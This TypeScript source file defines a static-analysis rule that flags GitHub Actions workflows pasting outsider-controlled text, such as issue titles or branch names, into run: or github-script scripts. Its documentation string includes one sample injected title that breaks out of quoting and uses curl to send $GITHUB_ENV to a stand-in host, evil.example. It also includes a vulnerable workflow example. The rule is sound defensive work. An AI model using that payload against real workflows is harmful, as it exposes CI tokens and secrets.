/**
 * AIS852 gha-expression-injection: an expression over text an outsider writes (an issue title, a comment, a
 * branch name) is pasted into a `run:` script or an `actions/github-script` script before the shell or
 * Node reads it.
 */
import { defineRule } from '../../../engine/rule';
import { parseActionReference } from '../../../engine/pipeline/github-workflow';
import { expressionsIn, untrustedContextIn } from '../../../engine/pipeline/expressions';
import { sourceScalar } from '../../../engine/pipeline/yaml-source';
import type { SourceScalar } from '../../../engine/pipeline/yaml-source';
import { OUTSIDER_TEXT_TRIGGERS, triggersIn, workflowOf } from '../shared/workflow-file';

export default defineRule(
  {
    id: 'AIS852',
    name: 'gha-expression-injection',
    title: 'Untrusted GitHub context expanded into a script',
    category: 'pipeline',
    fileKinds: ['yaml'],
    severity: 'error',
    confidence: 'high',
    cwe: ['CWE-78'],
    message: '{{detail}}',
    fixAvailability: 'none',
    docs: {
      whatItDoes: 'Flags `${{ … }}` expressions that read text an outsider controls (issue, pull request and discussion titles and bodies, comment and review bodies, commit messages and author names, `github.head_ref` and head branch names, page names) inside a `run:` script of a workflow or composite action, or the `script:` of `actions/github-script`. In a workflow that only outsiders cannot trigger (`push`, `schedule`, `workflow_dispatch`, `release`) the finding is a warning, since writing that text then takes write access.',
      whyIsThisBad: 'GitHub replaces the expression with its text before the shell (or Node) parses the script, so a title like `a"; curl -d @$GITHUB_ENV evil.example; echo "` becomes code running with the job\'s token and secrets. The Nx "s1ngularity" compromise started with a pull-request title pasted into a `run:` heredoc.',
      example: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: ${{ github.event.issue.title }}"\n',
      useInstead: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "New issue: $TITLE"\n',
      references: ['https://cwe.mitre.org/data/definitions/78.html', 'https://docs.github.com/en/actions/concepts/security/script-injections', 'https://github.com/rhysd/actionlint/blob/main/docs/checks.md#untrusted-inputs'],
    },
  },
  {
    kind: 'text',
    keywords: ['${{'],
    check(ctx) {
      const workflow = workflowOf(ctx);
      if (!workflow) return;
      // Composite actions and reusable workflows run under their callers' triggers, which may be any.
      const callerDecides = workflow.kind === 'github-action' || workflow.triggers.some((t) => t.name === 'workflow_call');
      const outsiders = callerDecides || triggersIn(workflow, OUTSIDER_TEXT_TRIGGERS).length > 0;
      for (const job of workflow.jobs) {
        for (const step of job.steps) {
          const scripts: { scalar: SourceScalar; where: string }[] = [];
          if (step.run) scripts.push({ scalar: step.run, where: '`run:` script' });
          if (step.uses && parseActionReference(step.uses.value).action === 'actions/github-script') {
            const script = sourceScalar(ctx.text, step.inputs.find((e) => e.key === 'script')?.value);
            if (script) scripts.push({ scalar: script, where: '`actions/github-script` script' });
          }
          for (const { scalar, where } of scripts) {
            for (const expression of expressionsIn(scalar)) {
              const context = untrustedContextIn(expression.text);
              if (!context) continue;
              ctx.report({
                ruleId: 'AIS852',
                range: ctx.rangeOf(expression.start, expression.end),
                severity: outsiders ? 'error' : 'warning',
                confidence: outsiders ? 'high' : 'medium',
                data: { detail: `\`${context}\` is text ${outsiders ? 'an outsider' : 'a committer'} writes, and GitHub pastes it into this ${where} before it runs: pass it through \`env:\` and use the quoted variable ("$VAR") instead.` },
              });
            }
          }
        }
      }
    },
  },
);
